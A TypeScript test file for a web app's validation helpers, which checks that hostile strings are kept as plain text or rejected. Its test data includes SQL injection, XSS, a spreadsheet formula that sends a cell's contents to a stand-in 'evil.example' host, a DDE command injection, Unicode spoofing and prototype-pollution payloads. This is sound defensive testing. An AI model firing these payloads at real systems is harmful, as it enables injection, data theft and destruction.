import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { PASSWORD_MAX_LENGTH, PASSWORD_MIN_LENGTH } from './password';
import { emailSchema, fieldErrors, normaliseEmail, passwordSchema, text } from './validation';

/** The first error message of a failed parse (the test fails if the parse succeeds). */
function failure(schema: z.ZodType, value: unknown): string {
  const result = schema.safeParse(value);
  expect(result.success, `expected ${JSON.stringify(value)} to be rejected`).toBe(false);
  return result.error!.issues[0]!.message;
}

// security.md "Hostile inputs": data, to be stored and shown as text, never refused for its content.
const HOSTILE_TEXT = [
  "' OR '1'='1",
  "'; DROP TABLE audit_events;--",
  '1; SELECT pg_sleep(5)--',
  "' UNION SELECT null,usename,passwd FROM pg_shadow--",
  '$$; DROP TABLE x; $$',
  'actor:"x\\" OR 1=1 --"',
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<svg/onload=window.__pwned=1>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  "=cmd|'/c calc'!A0",
  '@SUM(1,2)',
  '＝1+1',
  'аdmin', // Cyrillic а
  'ad\u200Bmin', // zero-width space
  '\u202Eevil.exe', // RTL override
  'e\u0301',
  'é',
  'line1\r\nline2',
  'a\u2028b',
  '\x1b[31mred\x1b[0m',
  '👩‍💻',
  '{"__proto__":{"isAdmin":true}}',
  '9007199254740993',
  '%_\\',
];

describe('text()', () => {
  const name = text('Name', 200);

  it.each(HOSTILE_TEXT)('accepts the hostile string %j unchanged', (value) => {
    expect(name.parse(value)).toBe(value);
  });

  it('trims surrounding whitespace, including unicode line and paragraph separators', () => {
    expect(name.parse('  Ada Lovelace \n')).toBe('Ada Lovelace');
    expect(name.parse('\u2028Ada\u00a0')).toBe('Ada');
  });

  it('keeps whitespace inside the value', () => {
    expect(name.parse('Ada  \t Lovelace')).toBe('Ada  \t Lovelace');
  });

  it.each(['', '   ', '\n\t', '\u2028'])(
    'rejects the empty or blank %j as required, naming the label',
    (value) => {
      expect(failure(name, value)).toBe('Name is required');
    },
  );

  it.each([undefined, null, 42, {}, ['x']])(
    'rejects the non-string %j, naming the label',
    (value) => {
      expect(failure(name, value)).toBe('Name is required');
    },
  );

  it.each([
    ['NUL', 'a\u0000b'],
    ['a NUL alone', '\u0000'],
    ['a lone high surrogate', 'x\uD800y'],
    ['a lone high surrogate at the end', 'x\uD800'],
    ['a lone low surrogate', '\uDC00x'],
    ['two high surrogates', '\uD800\uD800\uDC00'],
    ['a reversed pair', '\uDC00\uD800'],
  ])('rejects %s with a message naming the label', (_name, value) => {
    expect(failure(name, value)).toBe('Name contains a NUL or an invalid Unicode character');
  });

  it('accepts a valid surrogate pair', () => {
    expect(name.parse('\uD83D\uDE00')).toBe('😀');
  });

  it('enforces the maximum length after trimming, with a message naming the label and the limit', () => {
    const note = text('Note', 10);
    expect(note.parse('x'.repeat(10))).toBe('x'.repeat(10));
    expect(note.parse(`  ${'x'.repeat(10)}  `)).toBe('x'.repeat(10));
    expect(failure(note, 'x'.repeat(11))).toBe('Note must be at most 10 characters');
  });

  it('rejects a 1 MB string without trouble', () => {
    expect(failure(text('Reason', 2000), 'x'.repeat(1024 * 1024))).toBe(
      'Reason must be at most 2000 characters',
    );
  });
});

describe('emailSchema', () => {
  it.each([
    [' Alice@Example.COM ', 'alice@example.com'],
    ['BOB@EXAMPLE.ORG', 'bob@example.org'],
    ['user+tag@sub.example.co.uk', 'user+tag@sub.example.co.uk'],
    ['\tcarol@example.com\n', 'carol@example.com'],
  ])('normalises %j to %j', (input, expected) => {
    expect(emailSchema.parse(input)).toBe(expected);
    expect(normaliseEmail(input)).toBe(expected);
  });

  it.each([
    '',
    'not-an-email',
    'a@b',
    'a@example',
    'a..b@example.com',
    'a b@example.com',
    '@example.com',
    'alice@',
    'аdmin@example.com', // Cyrillic а
    "' OR '1'='1@example.com",
    '<script>@example.com',
    'a\u0000@example.com',
    'alice@example.com\r\nBcc: x@example.com',
  ])('rejects %j', (value) => {
    expect(failure(emailSchema, value)).toBe('Email is not a valid address');
  });

  it('rejects a non-string', () => {
    expect(failure(emailSchema, undefined)).toBe('Email is required');
    expect(failure(emailSchema, 5)).toBe('Email is required');
  });

  it('rejects an address over 254 characters', () => {
    const long = `${'a'.repeat(64)}@${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(63)}.com`;
    expect(long.length).toBeGreaterThan(254);
    expect(failure(emailSchema, long)).toBe('Email must be at most 254 characters');
  });
});

describe('passwordSchema', () => {
  it('has the documented bounds', () => {
    expect(PASSWORD_MIN_LENGTH).toBe(12);
    expect(PASSWORD_MAX_LENGTH).toBe(256);
  });

  it('accepts exactly the minimum and the maximum length', () => {
    expect(passwordSchema.parse('x'.repeat(PASSWORD_MIN_LENGTH))).toBe(
      'x'.repeat(PASSWORD_MIN_LENGTH),
    );
    expect(passwordSchema.parse('x'.repeat(PASSWORD_MAX_LENGTH))).toHaveLength(PASSWORD_MAX_LENGTH);
  });

  it('rejects one under the minimum and one over the maximum', () => {
    expect(failure(passwordSchema, 'x'.repeat(PASSWORD_MIN_LENGTH - 1))).toBe(
      'Password must be at least 12 characters',
    );
    expect(failure(passwordSchema, 'x'.repeat(PASSWORD_MAX_LENGTH + 1))).toBe(
      'Password must be at most 256 characters',
    );
  });

  it('does not trim: surrounding spaces are part of the password', () => {
    expect(passwordSchema.parse('  correct horse  ')).toBe('  correct horse  ');
  });

  it('rejects NUL and lone surrogates', () => {
    expect(failure(passwordSchema, 'correct horse\u0000battery')).toBe(
      'Password contains a NUL or an invalid Unicode character',
    );
    expect(failure(passwordSchema, 'correct horse\uD800battery')).toBe(
      'Password contains a NUL or an invalid Unicode character',
    );
  });

  it('accepts hostile-looking passwords as they are', () => {
    for (const value of [
      "' OR '1'='1 -- long enough",
      '<script>alert(1)</script>',
      'pässwörd-😀-long',
    ]) {
      expect(passwordSchema.parse(value)).toBe(value);
    }
  });
});

describe('fieldErrors', () => {
  const schema = z
    .object({
      name: text('Name', 5),
      email: emailSchema,
      address: z.object({ city: text('City', 20) }).strict(),
      tags: z.array(text('Tag', 3)),
    })
    .strict()
    .refine((v) => v.name !== 'root', 'Name must not be root');

  it('flattens nested paths with dots and keeps the first message per field', () => {
    const result = schema.safeParse({
      name: 'much too long',
      email: 'nope',
      address: { city: '' },
      tags: ['ok', 'toolong', 'x\u0000'],
    });
    expect(result.success).toBe(false);
    expect(fieldErrors(result.error!)).toEqual({
      name: 'Name must be at most 5 characters',
      email: 'Email is not a valid address',
      'address.city': 'City is required',
      'tags.1': 'Tag must be at most 3 characters',
      'tags.2': 'Tag contains a NUL or an invalid Unicode character',
    });
  });

  it('puts form-level errors under "_"', () => {
    const result = schema.safeParse({
      name: 'root',
      email: 'a@example.com',
      address: { city: 'Oslo' },
      tags: [],
    });
    expect(result.success).toBe(false);
    expect(fieldErrors(result.error!)).toEqual({ _: 'Name must not be root' });
  });

  it('reports unknown keys rejected by strict()', () => {
    const result = schema.safeParse({
      name: 'ok',
      email: 'a@example.com',
      address: { city: 'Oslo' },
      tags: [],
      isAdmin: true,
    });
    expect(result.success).toBe(false);
    const errors = fieldErrors(result.error!);
    expect(Object.keys(errors)).toEqual(['_']);
    expect(errors._).toMatch(/isAdmin/);
  });

  it('keeps the first of several messages for the same field', () => {
    const twice = z.object({ x: z.string().min(3, 'first').regex(/^\d+$/, 'second') });
    const result = twice.safeParse({ x: 'a' });
    expect(result.error!.issues).toHaveLength(2);
    expect(fieldErrors(result.error!)).toEqual({ x: 'first' });
  });

  it('does not let a "__proto__" path pollute the result', () => {
    const error = new z.ZodError([
      { code: 'custom', path: ['__proto__'], message: 'bad', input: undefined },
    ]);
    const errors = fieldErrors(error);
    expect(Object.getPrototypeOf(errors)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).bad).toBeUndefined();
  });
});
